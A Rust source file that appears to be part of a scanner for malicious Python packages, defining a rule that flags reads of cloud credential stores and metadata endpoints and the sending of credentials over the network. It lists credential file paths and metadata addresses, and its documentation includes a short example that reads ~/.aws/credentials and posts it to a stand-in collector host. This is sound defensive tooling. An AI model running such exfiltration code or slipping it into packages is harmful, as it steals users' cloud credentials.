use std::collections::BTreeSet;

use crate::finding::{Finding, Severity};
use crate::flows::{hosts, sinks};
use crate::python::{names, taint};
use crate::rules::helpers::string_keywords;
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, string_finding};

declare_rule! {
    /// Reads of cloud credential files and cloud metadata endpoints, and
    /// credentials sent over the network.
    ///
    /// ## What it finds
    /// Paths of credential stores — `~/.aws/credentials` and `config`,
    /// gcloud's `credentials.db`/`access_tokens.db`/application default
    /// credentials, Azure's token caches, `~/.kube/config`,
    /// `~/.docker/config.json`, Alibaba and Tencent CLI configs — and
    /// instance metadata endpoints (`169.254.169.254`, `169.254.170.2`,
    /// `metadata.google.internal`, `100.100.100.200`, `fd00:ec2::254`),
    /// after constant evaluation (so `"sliaitnederc/swa."[::-1]` counts).
    /// When data read from one of them — or credentials resolved by an SDK
    /// session (`boto3.Session().get_credentials()`), taken from the OS
    /// keychain (`keyring.get_password`), decrypted with DPAPI, or handed in
    /// as a wallet's private key or recovery phrase (a parameter named
    /// `private_key`, `mnemonic`, `seed_phrase`) — reaches a network call,
    /// the flow is reported as exfiltration: wallets sign locally and send
    /// signatures, never keys.
    ///
    /// ## Why it matters
    /// Cloud keys are what most recent PyPI stealers are after: one campaign
    /// of fake "time" utilities read exactly these files and the metadata
    /// service and sent them out. SDKs (boto3, google-auth) read the same
    /// files in functions a user calls, so the mention alone is low;
    /// reading them at install, startup or import time is high. Sending
    /// what was read over the network is critical when it happens without a
    /// call from the user (install, startup, import), or in any context
    /// when the host is one no user's credentials belong to (hidden in the
    /// code, a throwaway receiver, the author's private chat channel). In
    /// a function, credentials read from a file and sent to a host written
    /// in the clear are high; sent to a destination built at run time (one
    /// the caller or its configuration chose) they are medium, as are
    /// metadata-service tokens (which cloud SDKs send to their own APIs).
    ///
    /// ## Example
    /// ```python
    /// import os, requests
    /// creds = open(os.path.expanduser("~/.aws/credentials")).read()
    /// requests.post("https://collector.example/c", data=creds)
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1552.001 (Credentials In Files), T1552.005 (Cloud
    /// Instance Metadata API), T1041 (Exfiltration Over C2 Channel).
    pub struct CloudCredentials {
        id: "AY201",
        slug: "cloud-credential-access",
        category: CredentialAccess,
        severity: Critical,
    }
}

impl Rule for CloudCredentials {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            // Where a store is used (opened, read, fetched) decides how much
            // it weighs; a mere mention is low. One finding per store and
            // context: an SDK names the same file many times.
            let mut seen = BTreeSet::new();
            for call in file.calls.iter().filter(|c| names::is_access(&c.name)) {
                let Some((what, text)) = call
                    .arg_texts()
                    .find_map(|t| names::credential_target(t).map(|w| (w, t)))
                else {
                    continue;
                };
                if !seen.insert((what, call.context)) {
                    continue;
                }
                let mut f = code_finding(
                    &Self::META,
                    file,
                    call,
                    format!(
                        "`{}` accesses {what} ({}) {}",
                        call.name,
                        text.trim(),
                        call.context.describe()
                    ),
                );
                f.severity = if call.context.is_automatic() {
                    Severity::High
                } else {
                    Severity::Low
                };
                out.push(f);
            }
            let used: BTreeSet<&str> = seen.iter().map(|(what, _)| *what).collect();
            let mut mentioned = BTreeSet::new();
            for s in &file.strings {
                let Some(what) = string_keywords::credential_target(s) else {
                    continue;
                };
                if used.contains(what) || !mentioned.insert(what) {
                    continue;
                }
                let mut f = string_finding(
                    &Self::META,
                    file,
                    s,
                    format!("refers to {what} ({})", s.value.trim()),
                );
                f.severity = Severity::Low;
                out.push(f);
            }
            for call in file.calls.iter().filter(|c| c.is_network()) {
                let file_secret = call.all_args().any(|a| a.has(taint::SECRET));
                let metadata = call.all_args().any(|a| a.has(taint::METADATA));
                if !(file_secret || metadata) {
                    if let Some(f) = env_credentials_sent(file, call, facts) {
                        out.push(f);
                    }
                } else {
                    let target = call
                        .arg_texts()
                        .find(|t| t.contains("://") || t.contains('.'))
                        .unwrap_or("a remote host");
                    let source = if file_secret {
                        "a credential file, credential store or wallet key"
                    } else {
                        "the instance metadata service"
                    };
                    // Where no user's credentials belong, whoever calls
                    // it: a hidden or throwaway host, the author's chat.
                    let foreign = hosts::foreign_url(target, &file.source, facts.metadata);
                    let mut f = code_finding(
                        &Self::META,
                        file,
                        call,
                        format!(
                            "sends credentials read from {source} to {target}{} with `{}`",
                            foreign.map(|why| format!(" ({why})")).unwrap_or_default(),
                            call.name
                        ),
                    );
                    // SDKs authenticate with metadata tokens in functions
                    // users call; stealers do it on their own, or send what
                    // they read where it does not belong.
                    // In code a user calls, a destination built at run time
                    // is one the caller or its configuration chose (an SDK
                    // authenticating to its service): worth a look only.
                    let constant_host = sinks::host_of(target).is_some();
                    f.severity = match (call.context.is_automatic(), file_secret) {
                        (true, _) => Severity::Critical,
                        (false, true) if foreign.is_some() => Severity::Critical,
                        (false, true) if constant_host => Severity::High,
                        (false, _) => Severity::Medium,
                    };
                    out.push(f);
                }
            }
        }
    }
}

/// Credentials held in environment variables named for them
/// (`AWS_SECRET_ACCESS_KEY`, `GITHUB_TOKEN`), or text that labels its
/// unknown parts as credentials (`f"Token: {t}"`), sent to a host that is
/// not the package's own: critical in any context. SDKs read the same variables
/// and send them to their own service, so a host the package names in its
/// metadata or calls from several places is left alone.
fn env_credentials_sent(
    file: &crate::python::FileAnalysis,
    call: &crate::python::Call,
    facts: &PackageFacts<'_>,
) -> Option<Finding> {
    let carries = |bit| call.all_args().any(|a| a.has(bit));
    let what = if carries(taint::ENV_SECRET) {
        "credentials held in environment variables"
    } else if carries(taint::TOOL_TOKEN) {
        "a token a tool or SDK holds for the user"
    } else if carries(taint::LABELLED_SECRET) {
        "text that labels what it holds as a credential"
    } else {
        return None;
    };
    let target = call.arg_texts().find(|t| t.contains("://"))?;
    let why = hosts::foreign_url(target, &file.source, facts.metadata)?;
    let mut f = code_finding(
        &CloudCredentials::META,
        file,
        call,
        format!("sends {what} to {target} ({why}) with `{}`", call.name),
    );
    f.severity = Severity::Critical;
    Some(f)
}
